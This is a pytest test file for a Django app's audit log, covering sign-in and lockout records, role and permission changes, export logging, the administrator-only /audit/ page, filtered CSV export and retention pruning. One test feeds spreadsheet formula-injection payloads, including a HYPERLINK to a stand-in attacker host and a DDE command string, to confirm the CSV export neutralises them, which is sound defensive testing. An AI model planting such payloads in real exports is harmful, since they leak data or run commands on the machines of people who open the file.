"""An audit log people can use (issue 14, finding 10).

Failed sign-ins were deleted by the next success, role changes were logged without the old and new
roles, and downloads of the whole register and edits of a report's front matter were not recorded
at all. Now one table records who did what, to what, when and from where; administrators read it
at /audit/ with filters and take it away as CSV; it is kept for a configurable time.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from typing import Any

import pytest
from django.contrib.auth import get_user_model
from django.contrib.auth.models import Group, Permission
from django.core.management import call_command
from django.test import Client
from django.utils import timezone

from kpiboard.web.accounts import roles
from kpiboard.web.audit.models import Action, AuditEvent
from kpiboard.web.audit.records import record
from kpiboard.web.reporting import services
from kpiboard.web.reporting.models import Publication
from web.conftest import PASSWORD
from web.test_reporting import Q2, fake_write_pack
from web.test_staging import _preview

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def _empty_log(db: Any) -> None:
    """Only this test's rows (the shared setup gave the test accounts their roles)."""
    AuditEvent.objects.all().delete()


def sign_in(client: Client, username: str, password: str) -> Any:
    return client.post("/accounts/login/", {"username": username, "password": password})


def token(client: Client, path: str) -> str:
    return str(client.get(path).cookies["csrftoken"].value)


def only(action: str, **match: Any) -> AuditEvent:
    return AuditEvent.objects.get(action=action, **match)


def recent(event: AuditEvent) -> bool:
    return timezone.now() - dt.timedelta(minutes=1) < event.at <= timezone.now()


# -- signing in ----------------------------------------------------------------------------------


def test_sign_ins_failures_and_sign_outs_are_recorded(people: dict[str, Any]) -> None:
    client = Client(REMOTE_ADDR="192.0.2.5")
    sign_in(client, "reader", "not the password")
    sign_in(client, "reader", PASSWORD)
    client.post("/accounts/logout/")
    failed = only("sign_in_failed")
    assert (failed.actor, failed.actor_name, failed.target) == (None, "reader", "user reader")
    assert (failed.address, failed.detail) == ("192.0.2.5", "wrong username or password")
    signed = only("sign_in")
    assert (signed.actor, signed.actor_name, signed.address) == (
        people["reader"],
        "reader",
        "192.0.2.5",
    )
    assert recent(signed)
    assert only("sign_out").actor_name == "reader"


def test_a_successful_sign_in_after_failures_leaves_the_failures(people: dict[str, Any]) -> None:
    client = Client()
    for _ in range(3):
        sign_in(client, "helen", "not the password")
    assert sign_in(client, "helen", PASSWORD).status_code == 302
    assert AuditEvent.objects.filter(action="sign_in_failed", actor_name="helen").count() == 3


def test_a_lock_and_the_refusals_while_locked_are_recorded() -> None:
    client = Client(REMOTE_ADDR="192.0.2.9")
    for _ in range(5):
        sign_in(client, "mark", "not the password")
    sign_in(client, "mark", PASSWORD)  # refused unseen
    lock = only("locked_out")
    assert (lock.target, lock.actor_name, lock.address) == ("username mark", "mark", "192.0.2.9")
    refused = AuditEvent.objects.filter(action="sign_in_failed").order_by("-pk").first()
    assert refused is not None
    assert refused.detail == "refused without checking the password: signing in is locked"


# -- roles and permissions -----------------------------------------------------------------------


def _superuser_client() -> tuple[Client, Any]:
    root = get_user_model().objects.create_superuser("root", "root@example.gov.uk", PASSWORD)
    client = Client()
    client.force_login(root)
    return client, root


def test_a_role_change_in_the_admin_shows_the_old_and_new_roles(people: dict[str, Any]) -> None:
    client, root = _superuser_client()
    reader = people["reader"]
    url = f"/admin/auth/user/{reader.pk}/change/"
    page = client.get(url)
    assert page.status_code == 200
    form = page.context["adminform"].form
    data = {
        name: value
        for name, value in form.initial.items()
        if value is not None and name not in ("password", "groups", "user_permissions")
    }
    data["date_joined_0"], data["date_joined_1"] = (
        timezone.localtime(reader.date_joined).strftime("%Y-%m-%d %H:%M:%S").split(" ")
    )
    data.pop("date_joined", None)
    data.pop("last_login", None)
    data["groups"] = [Group.objects.get(name=roles.PERFORMANCE).pk]
    data["csrfmiddlewaretoken"] = (
        page.cookies["csrftoken"].value if "csrftoken" in page.cookies else ""
    )
    response = client.post(url, data)
    assert response.status_code == 302, response.content.decode()[:2000]
    change = only("role_changed")  # one row, though Django removes then adds
    assert (change.actor, change.target) == (root, "user reader")
    assert change.detail == "reader → performance team"
    assert recent(change)


def test_role_changes_made_in_code_are_recorded_too(people: dict[str, Any]) -> None:
    owner, administrator = (Group.objects.get(name=n) for n in (roles.OWNER, roles.ADMINISTRATOR))
    mark = people["other_owner"]
    mark.groups.add(administrator)
    mark.groups.remove(owner)
    administrator.user_set.remove(mark)
    assert list(
        AuditEvent.objects.filter(action="role_changed")
        .order_by("pk")
        .values_list("detail", flat=True)
    ) == [
        "indicator owner → administrator, indicator owner",
        "administrator, indicator owner → administrator",
        "administrator → no role",
    ]
    assert AuditEvent.objects.filter(action="role_changed", actor__isnull=False).count() == 0


def test_permission_and_superuser_changes_are_recorded(people: dict[str, Any]) -> None:
    reader = people["reader"]
    permission = Permission.objects.get(codename="change_user")
    reader.user_permissions.add(permission)
    reader.is_superuser = True
    reader.save()
    Group.objects.get(name=roles.READER).permissions.add(permission)
    rows = list(AuditEvent.objects.filter(action="permission_changed").order_by("pk"))
    assert [(row.target, row.detail) for row in rows] == [
        ("user reader", "no permissions of their own → auth.change_user"),
        ("user reader", "superuser: no → yes"),
        ("group reader", "no permissions → auth.change_user"),
    ]


# -- the register and reports --------------------------------------------------------------------


def test_an_export_of_the_register_is_recorded(client_as: Any, people: dict[str, Any]) -> None:
    response = client_as("performance").get("/register/export/zip/")
    assert response.status_code == 200
    export = only("exported")
    assert (export.actor, export.target) == (people["performance"], "the whole register")
    assert export.detail.startswith("downloaded as kpiboard-data.zip (")
    assert export.address == "127.0.0.1"


def test_an_import_is_recorded_when_confirmed(client_as: Any, people: dict[str, Any]) -> None:
    client = client_as("performance")
    csrf = _preview(client)
    assert not AuditEvent.objects.filter(action="imported").exists()  # a preview changes nothing
    client.post("/register/import/confirm/", {"csrfmiddlewaretoken": csrf})
    imported = only("imported")
    assert (imported.actor, imported.target) == (people["performance"], "register from demo.zip")
    assert imported.detail == "1 new targets"


def test_publication_withdrawal_and_front_matter_edits_are_recorded(
    people: dict[str, Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    from kpiboard.reports import pack

    monkeypatch.setattr(pack, "write_pack", fake_write_pack)
    perf = people["performance"]
    client = Client()
    client.force_login(perf)
    run = services.run_create(scope_text="directorate:fin", period_text=Q2, user=perf)
    page = client.get(f"/reports/{run.pk}/")
    form = {key: value for key, value in page.context["form"].initial.items() if value is not None}
    client.post(
        f"/reports/{run.pk}/", {**form, "to": "Resources Committee", "meeting_date": "2025-01-14"}
    )
    edit = only("front_matter_edited")
    assert edit.actor == perf
    assert edit.target.startswith(f"report run {run.pk}")
    lines = edit.detail.splitlines()
    assert any(
        line.startswith("to: ") and line.endswith(" → Resources Committee") for line in lines
    )
    assert "meeting_date: (empty) → 2025-01-14" in lines

    services.run_generate(run=run)
    client.post(f"/reports/{run.pk}/publish/")
    publication = Publication.objects.get(run=run)
    published = only("published")
    assert (published.actor, published.target) == (
        perf,
        f"{publication.title} (version {publication.number})",
    )
    client.post(f"/published/{publication.pk}/withdraw/", {"reason": "A figure was wrong"})
    withdrawn = only("withdrawn")
    assert (withdrawn.actor, withdrawn.detail) == (perf, "taken down: A figure was wrong")


def test_a_narrative_edit_is_recorded_with_the_lines_changed(
    client_as: Any, people: dict[str, Any]
) -> None:
    url = "/reports/narrative/?scope=srp&period=2024/25+Q2"
    client = client_as("performance")
    page = client.get(url)
    document = page.context["form"].initial["document"]
    client.post(
        url,
        {
            "document": document + "\nOne more line.\n",
            "version": 1,
            "action": "save",
            "csrfmiddlewaretoken": page.cookies["csrftoken"].value,
        },
    )
    edit = only("narrative_edited")
    assert (edit.actor, edit.target) == (people["performance"], "narrative of srp for 2024/25 Q2")
    assert "+ One more line." in edit.detail


# -- the page ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("role", "status"),
    [
        ("administrator", 200),
        ("performance", 403),
        ("owner", 403),
        ("reader", 403),
        ("no_role", 403),
    ],
)
def test_only_administrators_open_the_audit_log(client_as: Any, role: str, status: int) -> None:
    client = client_as(role)
    assert client.get("/audit/").status_code == status
    assert client.get("/audit/export.csv").status_code == status


def test_someone_not_signed_in_is_asked_to_sign_in() -> None:
    for path in ("/audit/", "/audit/export.csv", "/audit/lockouts/"):
        response = Client().get(path)
        assert response.status_code == 302
        assert response["Location"].startswith("/accounts/login/")


def test_the_navigation_links_the_log_for_administrators_only(client_as: Any) -> None:
    assert 'href="/audit/"' in client_as("administrator").get("/accounts/").content.decode()
    assert 'href="/audit/"' not in client_as("performance").get("/accounts/").content.decode()


def test_the_page_filters_by_who_what_and_when(client_as: Any, people: dict[str, Any]) -> None:
    old = record(people["performance"], Action.EXPORTED, "the whole register", "old one")
    AuditEvent.objects.filter(pk=old.pk).update(at=timezone.make_aware(dt.datetime(2024, 3, 5, 12)))
    record(people["performance"], Action.EXPORTED, "the whole register", "new one")
    record(people["reader"], Action.SIGN_IN, "user reader")
    admin = client_as("administrator")

    def shown(query: str) -> list[str]:
        page = admin.get("/audit/?" + query)
        assert page.status_code == 200
        return [event.detail for event in page.context["page"]]

    assert {"old one", "new one"} <= set(shown("who=per&action=exported"))
    assert shown("who=per&action=exported&since=2024-03-01&until=2024-03-05") == ["old one"]
    assert shown("who=per&action=exported&since=2024-03-06") == ["new one"]
    assert shown("who=nobody-of-that-name") == []
    reader_rows = admin.get("/audit/?who=reader").context["page"]
    assert {event.action for event in reader_rows} == {"sign_in"}


def test_a_bad_filter_is_shown_beside_its_field(client_as: Any) -> None:
    page = client_as("administrator").get("/audit/?since=yesterday&action=explode")
    assert page.status_code == 200
    html = page.content.decode()
    assert "Enter a valid date." in html
    assert "Select a valid choice." in html
    backwards = client_as("administrator").get("/audit/?since=2025-02-01&until=2025-01-01")
    assert "The end date must be on or after the start date." in backwards.content.decode()
    assert client_as("administrator").get("/audit/export.csv?since=yesterday").status_code == 400


def test_the_csv_export_neutralises_formulas_and_is_itself_recorded(
    client_as: Any, people: dict[str, Any]
) -> None:
    sign_in(Client(), '=HYPERLINK("http://evil.example/?"&A1,"Click")', "x")
    record(people["performance"], Action.EXPORTED, "+SUM(A1:A9)", "@cmd|'/c calc'!A0")
    response = client_as("administrator").get("/audit/export.csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert "attachment" in response["Content-Disposition"]
    text = b"".join(response.streaming_content).decode()
    rows = list(csv.DictReader(io.StringIO(text)))
    failed = next(row for row in rows if row["action"] == "Sign-in failed")
    assert failed["who"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'
    assert failed["target"].startswith("user =HYPERLINK")  # not at the start: harmless
    export = next(row for row in rows if row["action"] == "Register exported")
    assert (export["target"], export["detail"]) == ("'+SUM(A1:A9)", "'@cmd|'/c calc'!A0")
    assert not any(value[:1] in "=+-@" for row in rows for value in row.values() if value)
    assert only("audit_exported").actor == people["administrator"]


def test_the_csv_export_takes_the_filters(client_as: Any, people: dict[str, Any]) -> None:
    record(people["reader"], Action.SIGN_IN, "user reader")
    record(people["performance"], Action.EXPORTED, "the whole register")
    text = b"".join(
        client_as("administrator").get("/audit/export.csv?action=exported").streaming_content
    ).decode()
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [row["action"] for row in rows] == ["Register exported"]


# -- keeping ---------------------------------------------------------------------------------------


def test_prune_audit_deletes_rows_older_than_the_retention_period(
    settings: Any, people: dict[str, Any]
) -> None:
    settings.KPIBOARD_AUDIT_RETENTION_DAYS = 30
    old = record(people["reader"], Action.SIGN_IN, "user reader")
    AuditEvent.objects.filter(pk=old.pk).update(at=timezone.now() - dt.timedelta(days=31))
    kept = record(people["reader"], Action.SIGN_IN, "user reader")
    out = io.StringIO()
    call_command("prune_audit", stdout=out)
    assert "Deleted 1 audit row from before" in out.getvalue()
    assert not AuditEvent.objects.filter(pk=old.pk).exists()
    assert AuditEvent.objects.filter(pk=kept.pk).exists()
    assert "1 rows from before" in only("audit_pruned").detail


def test_prune_audit_dry_run_and_a_bad_number_of_days(people: dict[str, Any]) -> None:
    old = record(people["reader"], Action.SIGN_IN, "user reader")
    AuditEvent.objects.filter(pk=old.pk).update(at=timezone.now() - dt.timedelta(days=500))
    out = io.StringIO()
    call_command("prune_audit", "--dry-run", stdout=out)
    assert "Would delete 1 audit row" in out.getvalue()
    assert AuditEvent.objects.filter(pk=old.pk).exists()
    from django.core.management import CommandError

    with pytest.raises(CommandError, match="at least a day"):
        call_command("prune_audit", "--days", "0")


def test_an_unknown_action_is_a_programming_error() -> None:
    with pytest.raises(ValueError, match="'sneezed' is not an audit action"):
        record(None, "sneezed")
